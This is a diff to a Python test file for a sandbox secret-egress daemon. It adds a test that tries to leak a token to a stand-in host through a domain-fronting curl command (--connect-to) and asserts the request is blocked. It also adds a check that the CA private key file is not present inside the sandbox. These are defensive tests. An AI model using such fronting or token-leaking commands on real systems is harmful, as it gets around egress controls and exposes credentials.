@@ -312,17 +312,25 @@ def test_the_placeholder_to_another_allowed_host_is_blocked(secd: Daemon, box: S
     assert "403 Forbidden" in out
     code, out, _ = sh(box, 'curl -sS -m 30 -i -H "X-Leak: $TOKEN" http://other.secret.test:8080/plain')
     assert "403 Forbidden" in out
+    # the request is judged by where the tunnel goes, not by the Host header or the TLS name it claims
+    fronted = "-k --connect-to api.secret.test:8443:other.secret.test:8443"
+    _, out, _ = sh(box, f'curl -sS -m 30 -i {fronted} -H "Authorization: Bearer $TOKEN" https://api.secret.test:8443/front')
+    assert "403 Forbidden" in out and "reason=secret_host" in out
     # nothing carrying it arrived anywhere; a request without it still goes through
     assert upstream.received("tls")[before:] == []
     code, out, err = sh(box, "curl -sS -m 30 https://other.secret.test:8443/fine")
     assert code == 0 and json.loads(out)["server"] == "tls", err
     blocked = [e["data"] for e in events(secd, box, "secret_exfiltration_blocked")]
-    assert [(b["host"], b["secret"], b["where"]) for b in blocked[-4:]] == [
+    assert [(b["host"], b["secret"], b["where"]) for b in blocked[-5:]] == [
         ("other.secret.test", "TOKEN", "header"),
         ("other.secret.test", "TOKEN", "target"),
         ("other.secret.test", "TOKEN", "body"),
         ("other.secret.test", "TOKEN", "header"),
+        ("other.secret.test", "TOKEN", "header"),
     ]
+    # the CA's key is on the host only: nothing of it inside
+    code, out, _ = sh(box, "ls -A /.hutch; find / -xdev -name 'sandbox-ca.key' 2>/dev/null | head -1")
+    assert "key" not in out and "sandbox-ca.crt" in out
 
 
 def test_one_kept_alive_connection_carries_several_requests(secd: Daemon, box: Sandbox, upstream: Upstream) -> None:
